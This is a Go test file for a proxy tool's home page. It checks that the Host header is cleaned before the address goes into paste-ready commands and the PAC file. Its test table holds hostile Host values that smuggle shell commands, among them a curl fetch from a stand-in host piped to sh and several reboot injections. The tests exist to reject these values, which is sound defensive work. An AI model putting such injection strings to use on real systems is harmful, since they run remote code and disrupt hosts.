package home

import (
	"context"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"robotsproxy/proxy/identity"
)

// The page shows commands to paste. A Host that is more than an address is not in them.
func TestAddressOnThePage(t *testing.T) {
	own := &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 8080}
	for host, want := range map[string]string{
		"proxy.example:3128":             "proxy.example:3128",
		"PROXY_1.example":                "proxy_1.example:80",
		"[2001:DB8::1]:8080":             "[2001:db8::1]:8080",
		"":                               "192.0.2.1:8080",
		"x;curl$IFS-s$IFS'e.example'|sh": "192.0.2.1:8080",
		"$(reboot)":                      "192.0.2.1:8080",
		"`reboot`:1":                     "192.0.2.1:8080",
		"a&reboot":                       "192.0.2.1:8080",
		"a%0areboot":                     "192.0.2.1:8080",
		"a#b":                            "192.0.2.1:8080",
		"a:1/../$(reboot)":               "192.0.2.1:8080",
		"user@a":                         "192.0.2.1:8080",
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.Host = host
		r = r.WithContext(context.WithValue(r.Context(), http.LocalAddrContextKey, net.Addr(own)))
		if got := reachedAt(r).Address; got != want {
			t.Errorf("Host %q: %s, want %s", host, got, want)
		}
		if got, want := pac(t, r), "function FindProxyForURL(url, host) {\n  return \"PROXY "+want+"\";\n}\n"; got != want {
			t.Errorf("Host %q: %s, want %s", host, got, want)
		}
	}
}

// pac is the answer to a request for the proxy auto-configuration.
func pac(t *testing.T, r *http.Request) string {
	r.URL.Path = "/proxy.pac"
	w := httptest.NewRecorder()
	Site{NotFound: http.NotFound}.Handler().ServeHTTP(w, r)
	if got := w.Header().Get("Content-Type"); got != "application/x-ns-proxy-autoconfig" {
		t.Errorf("the type is %q", got)
	}
	return w.Body.String()
}

// Where the proxy is reached over TLS, all that the site shows names it so.
func TestReachedOverTLS(t *testing.T) {
	own := &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 8443}
	site := Site{
		Name: "test", NotFound: http.NotFound,
		Identify: func(*http.Request) (*identity.Identity, string) { return &identity.Identity{}, identity.DefaultName },
	}
	for host, want := range map[string]string{"proxy.example": "proxy.example:443", "proxy.example:8443": "proxy.example:8443", "x y": "192.0.2.1:8443"} {
		r := httptest.NewRequest("GET", "https://proxy.example/", nil)
		r.Host = host
		r = r.WithContext(context.WithValue(r.Context(), http.LocalAddrContextKey, net.Addr(own)))
		if got := pac(t, r.Clone(r.Context())); !strings.Contains(got, `return "HTTPS `+want+`";`) {
			t.Errorf("Host %q: %s", host, got)
		}
		for _, accept := range []string{"text/html", "*/*"} {
			r.Header.Set("Accept", accept)
			w := httptest.NewRecorder()
			site.Handler().ServeHTTP(w, r)
			page := html.UnescapeString(w.Body.String())
			for _, part := range []string{"https_proxy=https://" + want, "https://USER:x@" + want, "https://" + want + "/proxy.pac", "curl -x https://" + want, "robotsproxy env --tls --listen " + want} {
				if !strings.Contains(page, part) {
					t.Errorf("Host %q, %s: the page lacks %q", host, accept, part)
				}
			}
			if strings.Contains(page, "http://") {
				t.Errorf("Host %q, %s: the page names a plain proxy:\n%s", host, accept, page)
			}
		}
	}
}
